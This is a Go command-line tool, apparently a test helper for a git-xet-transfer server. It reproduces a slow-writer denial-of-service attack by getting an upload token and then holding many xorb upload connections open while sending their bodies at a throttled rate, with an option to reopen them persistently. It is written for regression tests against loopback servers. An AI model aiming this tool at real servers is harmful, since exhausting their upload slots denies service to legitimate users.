// Command slowwriters holds a xet-server's upload slots the way issue 41's attacker did: it asks
// the batch API of a repository it may write to for a CAS token, then opens N xorb uploads
// (POST /v1/xorbs/default/HASH) whose bodies are valid chunk records announced at SIZE bytes and
// sent at RATE bytes per second each, for as long as it runs. For test/slowwriters.sh and
// test/attack_slots_test.go; loopback servers only.
//
// It prints one line per event on stdout: "open I" when writer I has sent its headers, "ended I
// STATUS BYTES" when the server answered or closed writer I (STATUS 0: the connection closed
// without an answer). With -reopen a writer that ended starts again, as a persistent attacker's
// would. It ends on SIGINT/SIGTERM, or when every writer has ended.
//
//	slowwriters -lfs http://alice:pw@127.0.0.1:8080/alice/r.git/info/lfs -n 8 -rate 17000
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/git-xet-transfer/git-xet-transfer/xet/hash"
	"github.com/git-xet-transfer/git-xet-transfer/xet/lfsbatch"
	"github.com/git-xet-transfer/git-xet-transfer/xet/xorb"
)

func main() {
	lfs := flag.String("lfs", "", "LFS URL of a repository the user may write to, with user:password (http://user:pw@host/repo.git/info/lfs)")
	n := flag.Int("n", 8, "writers")
	rate := flag.Int("rate", 17000, "bytes per second each writer sends")
	size := flag.Int64("size", 64<<20, "body size each writer announces")
	reopen := flag.Bool("reopen", false, "start a writer again when it ends")
	flag.Parse()
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if err := run(ctx, *lfs, *n, *rate, *size, *reopen); err != nil {
		fmt.Fprintln(os.Stderr, "slowwriters:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, lfs string, n, rate int, size int64, reopen bool) error {
	cas, token, err := casToken(ctx, lfs)
	if err != nil {
		return err
	}
	u, err := url.Parse(cas)
	if err != nil || u.Scheme != "http" {
		return fmt.Errorf("CAS URL %q: want http://HOST:PORT", cas)
	}
	x := records()
	out := &lineWriter{}
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				status, sent := write(ctx, u.Host, token, x, size, rate, func() { out.printf("open %d\n", i) })
				out.printf("ended %d %d %d\n", i, status, sent)
				if !reopen {
					return
				}
				select { // not in a tight loop when the server refuses at once
				case <-ctx.Done():
					return
				case <-time.After(100 * time.Millisecond):
				}
			}
		}()
	}
	wg.Wait()
	return nil
}

// casToken asks the batch API for an upload of a made-up object and returns the CAS URL and
// token of its xet action.
func casToken(ctx context.Context, lfs string) (string, string, error) {
	oid := sha256.Sum256([]byte(time.Now().String()))
	body, _ := json.Marshal(lfsbatch.Request{Operation: "upload", Transfers: []string{"xet"}, HashAlgo: "sha256",
		Objects: []lfsbatch.Object{{OID: hex.EncodeToString(oid[:]), Size: 1 << 20}}})
	req, err := http.NewRequestWithContext(ctx, "POST", strings.TrimRight(lfs, "/")+"/objects/batch", bytes.NewReader(body))
	if err != nil {
		return "", "", err
	}
	if u, err := url.Parse(lfs); err == nil && u.User != nil {
		pw, _ := u.User.Password()
		req.SetBasicAuth(u.User.Username(), pw)
	}
	req.Header.Set("Content-Type", "application/vnd.git-lfs+json")
	req.Header.Set("Accept", "application/vnd.git-lfs+json")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return "", "", err
	}
	defer res.Body.Close()
	var br lfsbatch.Response
	if err := json.NewDecoder(res.Body).Decode(&br); err != nil || res.StatusCode != 200 || len(br.Objects) != 1 || br.Objects[0].Actions["upload"] == nil {
		return "", "", fmt.Errorf("batch: status %d, %v, %+v", res.StatusCode, err, br)
	}
	x, err := lfsbatch.ParseXetAction(br.Objects[0].Actions["upload"])
	if err != nil {
		return "", "", err
	}
	return x.CasURL, x.Token, nil
}

// records is a xorb of 4 MiB of random data in 64 KiB chunks: what each writer sends (its hash is
// the one named in the URL), then the same records again while the announced size lasts.
func records() *xorb.Xorb {
	b := xorb.NewBuilder(xorb.PolicyNone)
	for range 64 {
		c := make([]byte, 64<<10)
		_, _ = rand.Read(c)
		b.Add(c, hash.Chunk(c))
	}
	return b.Finish()
}

// write is one writer: a POST announcing size bytes, sent at rate until ctx ends or the server
// answers or closes. It returns the answer's status (0: none) and the bytes it sent.
func write(ctx context.Context, host, token string, x *xorb.Xorb, size int64, rate int, opened func()) (int, int64) {
	c, err := (&net.Dialer{}).DialContext(ctx, "tcp", host)
	if err != nil {
		return 0, 0
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	fmt.Fprintf(c, "POST /v1/xorbs/default/%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n",
		x.Hash, host, token, size)
	opened()
	answer := make(chan int, 1)
	go func() { // the owner: write waits for it below, after closing the connection
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			answer <- 0
			return
		}
		res.Body.Close()
		answer <- res.StatusCode
	}()
	var sent int64
	step := max(1, rate/10)
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for sent < size {
		select {
		case <-ctx.Done():
			c.Close()
			<-answer
			return 0, sent
		case st := <-answer:
			return st, sent
		case <-tick.C:
		}
		off := int(sent % int64(len(x.Body)))
		m := min(step, len(x.Body)-off, int(size-sent))
		if _, err := c.Write(x.Body[off : off+m]); err != nil {
			c.Close()
			return <-answer, sent
		}
		sent += int64(m)
	}
	return <-answer, sent
}

// lineWriter prints whole lines to stdout, one writer at a time.
type lineWriter struct{ mu sync.Mutex }

func (l *lineWriter) printf(format string, args ...any) {
	l.mu.Lock()
	defer l.mu.Unlock()
	fmt.Fprintf(os.Stdout, format, args...)
}
